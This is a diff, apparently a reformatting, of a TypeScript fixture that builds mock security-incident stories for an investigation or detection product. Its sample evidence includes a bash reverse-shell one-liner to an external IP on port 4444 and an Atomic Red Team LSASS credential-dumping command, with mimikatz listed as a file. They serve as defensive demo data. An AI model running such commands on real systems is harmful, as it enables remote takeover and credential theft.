@@ -7,8 +7,7 @@ import { USERS } from '../users';
 import { ANALYSTS, type StoryContext } from './context';
 import { PATHS } from './paths';
 
-export const ATOMIC_COMMAND =
-  'powershell.exe -ExecutionPolicy Bypass -NoProfile -Command "Invoke-AtomicTest T1003.001 -TestNumbers 1"';
+export const ATOMIC_COMMAND = 'powershell.exe -ExecutionPolicy Bypass -NoProfile -Command "Invoke-AtomicTest T1003.001 -TestNumbers 1"';
 export const REVERSE_SHELL_COMMAND = `bash -i >& /dev/tcp/${EXTERNAL_IPS.reverseShell.ipAddress}/4444 0>&1`;
 export const SCHEDULED_TASK_COMMAND =
   'schtasks.exe /Create /TN "Contoso\\InventoryAgent" /TR "C:\\Program Files\\Contoso\\Inventory\\agent.exe" /SC HOURLY /RU SYSTEM /F';
@@ -49,7 +48,9 @@ export function endpointStories({ clock, device }: StoryContext): Story {
         investigationState: 'successfullyRemediated',
         evidence: (ev) => [
           ev.file('fusionCore', PATHS.downloads('user6'), ws063, {
-            verdict: 'suspicious', remediationStatus: 'remediated', detectionStatus: 'prevented',
+            verdict: 'suspicious',
+            remediationStatus: 'remediated',
+            detectionStatus: 'prevented',
           }),
           ev.device(ws063, { roles: ['compromised'], detailedRoles: ['Main device'] }),
           ev.user(USERS.user6, { roles: ['contextual'] }),
@@ -82,8 +83,15 @@ export function endpointStories({ clock, device }: StoryContext): Story {
         investigationState: 'benign',
         evidence: (ev) => [
           ev.process(
-            { image: 'powershell', imagePath: PATHS.powershell, commandLine: ATOMIC_COMMAND, processId: 9012,
-              created: ps, user: USERS.redteam, device: pentest },
+            {
+              image: 'powershell',
+              imagePath: PATHS.powershell,
+              commandLine: ATOMIC_COMMAND,
+              processId: 9012,
+              created: ps,
+              user: USERS.redteam,
+              device: pentest,
+            },
             { verdict: 'suspicious', roles: ['suspicious'] },
           ),
           ev.device(pentest, { roles: ['contextual'], detailedRoles: ['Main device'] }),
@@ -103,7 +111,9 @@ export function endpointStories({ clock, device }: StoryContext): Story {
         investigationState: 'benign',
         evidence: (ev) => [
           ev.file('mimikatz', PATHS.tools, pentest, {
-            verdict: 'malicious', remediationStatus: 'prevented', detectionStatus: 'prevented',
+            verdict: 'malicious',
+            remediationStatus: 'prevented',
+            detectionStatus: 'prevented',
           }),
           ev.device(pentest, { roles: ['contextual'], detailedRoles: ['Main device'] }),
           ev.user(USERS.redteam, { roles: ['contextual'] }),
@@ -152,8 +162,16 @@ export function endpointStories({ clock, device }: StoryContext): Story {
         investigationState: 'running',
         evidence: (ev) => [
           ev.process(
-            { image: 'bash', imagePath: PATHS.bin, commandLine: REVERSE_SHELL_COMMAND, processId: 31877, created: shell,
-              user: null, device: lnxWeb01, detectionStatus: 'detected' },
+            {
+              image: 'bash',
+              imagePath: PATHS.bin,
+              commandLine: REVERSE_SHELL_COMMAND,
+              processId: 31877,
+              created: shell,
+              user: null,
+              device: lnxWeb01,
+              detectionStatus: 'detected',
+            },
             { verdict: 'malicious', roles: ['suspicious'] },
           ),
           ev.ip(EXTERNAL_IPS.reverseShell, { verdict: 'malicious', roles: ['commandAndControl', 'destination'] }),
@@ -186,8 +204,15 @@ export function endpointStories({ clock, device }: StoryContext): Story {
         investigationState: 'benign',
         evidence: (ev) => [
           ev.process(
-            { image: 'schtasks', imagePath: PATHS.system32, commandLine: SCHEDULED_TASK_COMMAND, processId: 2244,
-              created: task, user: USERS.user7, device: ws105 },
+            {
+              image: 'schtasks',
+              imagePath: PATHS.system32,
+              commandLine: SCHEDULED_TASK_COMMAND,
+              processId: 2244,
+              created: task,
+              user: USERS.user7,
+              device: ws105,
+            },
             { verdict: 'noThreatsFound', roles: ['contextual'] },
           ),
           ev.device(ws105, { roles: ['contextual'], detailedRoles: ['Main device'] }),
